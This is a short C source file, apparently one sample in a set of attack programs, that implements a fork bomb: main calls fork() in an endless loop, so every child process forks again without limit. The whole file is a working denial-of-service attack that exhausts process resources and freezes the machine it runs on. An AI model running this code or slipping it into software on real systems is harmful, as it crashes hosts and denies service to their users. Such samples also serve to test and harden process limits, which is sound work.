/* Forks without end, in every child too. */
#include "attack.h"

int main(void)
{
    for (;;)
        (void)!fork();
}
